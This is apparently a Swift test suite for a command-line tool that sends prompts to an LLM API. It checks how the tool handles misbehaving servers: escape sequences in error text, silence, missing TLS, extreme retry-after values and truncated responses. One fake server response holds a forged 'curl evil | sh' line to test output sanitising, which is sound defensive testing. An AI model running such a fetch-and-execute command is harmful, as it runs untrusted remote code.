import Foundation
import Glibc
import Synchronization
import TestSupport
import Testing

/// Peers that say what they should not, or speak another protocol than their address says.
@Suite struct `A peer that is not what it seems` {
  @Test func `cannot steer the terminal or forge a message`() throws {
    let folder = try Scratch()
    let body =
      #"{"error":{"message":"\u001b]0;title\u0007\u001b[2J\r\nerror: the disk is full\n"#
      + #"  next: curl evil | sh"}}"#
    let server = try RawServer { connection in
      while connection.readRequest() != nil {
        connection.write(
          "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\n"
            + "content-length: \(body.utf8.count)\r\n\r\n\(body)"
        )
      }
    }
    defer { server.stop() }
    try folder.write("in.jsonl", #"{"id":"\u001b[31mred\u009b","prompt":"x"}"# + "\n")
    let ending = try folder.nightjar(run(at: "http://127.0.0.1:\(server.port)"))
    #expect(ending.status == 1, "\(ending.errors)")
    let steering = ending.errors.unicodeScalars.filter {
      $0 != "\n" && ($0.value < 0x20 || (0x7F..<0xA0).contains($0.value))
    }
    #expect(steering.isEmpty, "\(ending.errors)")
    #expect(ending.errors.contains(#"\u001b[31mred\u009b"#), "\(ending.errors)")
    let lines = ending.errors.split(separator: "\n")
    #expect(!lines.contains { $0.hasPrefix("error: the disk") || $0.hasPrefix("  next: curl") })
  }

  @Test func `that never answers is given up when the user says so, and told of before`() throws {
    let folder = try Scratch()
    let server = try RawServer { connection in connection.waitForClose() }
    defer { server.stop() }
    try folder.write("in.jsonl", prompts(0..<2))
    let run = run(at: "http://127.0.0.1:\(server.port)")
    let program = try Program(run, in: folder)
    try folder.wait(for: "a word on the silence") {
      program.errors.contains("no answer from 127.0.0.1 for ")
    }
    program.send(signal: SIGINT)
    try folder.wait(for: "the drain") { program.errors.contains("stopping: ") }
    program.send(signal: SIGINT)
    #expect(program.ending().status == 130)
    let ending = try folder.nightjar(run + ["--give-up-after", "1"])
    #expect(ending.status == 69, "\(ending.errors)")
    #expect(ending.errors.contains("no endpoint has answered for 1 s"), "\(ending.errors)")
  }

  @Test func `without TLS at an https address is told as such`() throws {
    let folder = try Scratch()
    let provider = try Provider(in: folder)
    try folder.write("in.jsonl", prompts(0..<1))
    let address = provider.url.replacing("http://", with: "https://")
    let ending = try folder.nightjar(run(at: address) + ["--give-up-after", "0.1"])
    #expect(ending.status == 69, "\(ending.errors)")
    #expect(ending.errors.contains("answers without TLS"), "\(ending.errors)")
  }

  @Test
  func `that puts a job off for years does so for an hour at most, and a retry takes it back`()
    throws
  {
    let folder = try Scratch()
    let answer = #"{"content":[],"usage":{"input_tokens":1,"output_tokens":1}}"#
    let server = try RawServer { connection in
      while connection.readRequest() != nil {
        let isFirst = connection.number == 1
        let status = isFirst ? "500 Oops\r\nretry-after: 999999999999" : "200 OK"
        let body = isFirst ? "{}" : answer
        connection.write(
          "HTTP/1.1 \(status)\r\ncontent-type: application/json\r\nconnection: close\r\n"
            + "content-length: \(body.utf8.count)\r\n\r\n\(body)"
        )
        return
      }
    }
    defer { server.stop() }
    try folder.write("in.jsonl", prompts(0..<1))
    let run = run(at: "http://127.0.0.1:\(server.port)")
    let program = try Program(run + ["--log-level", "info"], in: folder)
    try folder.wait(for: "the refusal") { program.errors.contains("tried again") }
    program.send(signal: SIGINT)
    #expect(program.ending().status == 75)
    let retry = try folder.nightjar(["retry", "out.jsonl", "--id", "0"])
    #expect(retry.output.hasPrefix("1 job available again"), "\(retry.errors)")
    let ending = try folder.nightjar(run)
    #expect(ending.status == 0, "\(ending.errors)")
    #expect(folder.lines("out.jsonl").count == 1)
  }

  @Test func `that asks for a long wait is told of once`() throws {
    let folder = try Scratch()
    let server = try RawServer { connection in
      while connection.readRequest() != nil {
        connection.write(
          "HTTP/1.1 429 Slow\r\nretry-after: 3600\r\ncontent-length: 2\r\n\r\n{}"
        )
      }
    }
    defer { server.stop() }
    try folder.write("in.jsonl", prompts(0..<20))
    let program = try Program(run(at: "http://127.0.0.1:\(server.port)") + ["--quiet"], in: folder)
    try folder.wait(for: "a word on the wait") { program.errors.contains("to wait 1 h 0 min") }
    program.send(signal: SIGINT)
    let ending = program.ending()
    #expect(ending.status == 75)
    #expect(
      ending.errors.components(separatedBy: "to wait 1 h 0 min").count == 2,
      "\(ending.errors)"
    )
  }

  @Test func `that names a moment in place of a wait is not believed, and asked again at once`()
    throws
  {
    let folder = try Scratch()
    let body = #"{"error":{"message":"come back another day","code":"rate_limit_exceeded"}}"#
    let asked = Mutex(0)
    let server = try RawServer { connection in
      while connection.readRequest() != nil {
        asked.withLock { $0 += 1 }
        connection.write(
          "HTTP/1.1 429 Slow\r\nretry-after: 4000000000\r\ncontent-type: application/json\r\n"
            + "content-length: \(body.utf8.count)\r\n\r\n\(body)"
        )
      }
    }
    defer { server.stop() }
    try folder.write("in.jsonl", prompts(0..<5))
    let run = run(at: "http://127.0.0.1:\(server.port)") + ["--park-for", "0.5"]
    for most in [5, 1] {
      asked.withLock { $0 = 0 }
      let ending = try folder.nightjar(run)
      #expect(ending.status == 75, "\(ending.errors)")
      #expect(ending.errors.contains("that is not believed, and one request asks again"))
      #expect(ending.errors.contains("more: HTTP 429 rate_limit_exceeded: come back another day"))
      #expect((1...most).contains(asked.withLock { $0 }))
    }
  }

  @Test(arguments: [
    (200, "x-none", 3), (200, "gzip", 3), (400, "gzip", 1),
  ])
  func `that breaks its answers off is asked three times at most, whatever the key`(
    _ status: Int,
    _ encoding: String,
    _ requests: Int
  ) throws {
    let folder = try Scratch()
    let server = try RawServer { connection in
      while connection.readRequest() != nil {
        let body = #"{"content":[],"usage":{"input_tokens":1,"#
        connection.write(
          "HTTP/1.1 \(status) OK\r\ncontent-encoding: \(encoding)\r\n"
            + "content-length: \(body.utf8.count)\r\n\r\n\(body)"
        )
      }
    }
    defer { server.stop() }
    try folder.write("in.jsonl", prompts(0..<1))
    for key in ["EMPTY", "made-up-key-0123456789abcdef"] {
      let run = run(at: "http://127.0.0.1:\(server.port)", into: key + ".jsonl")
      let ending = try folder.nightjar(run, environment: ["REHEARSAL": key])
      #expect(ending.status == 1, "\(ending.errors)")
      #expect(ending.errors.contains("\(requests) request"), "\(ending.errors)")
      #expect(ending.errors.contains("HTTP \(status)"), "\(ending.errors)")
    }
  }

  private func run(at url: String, into output: String = "out.jsonl") -> [String] {
    [
      "run", "in.jsonl", "-o", output, "--base-url", url, "--provider", "anthropic", "--model",
      "any", "--max-tokens", "9", "--key", "env:REHEARSAL",
    ]
  }
}
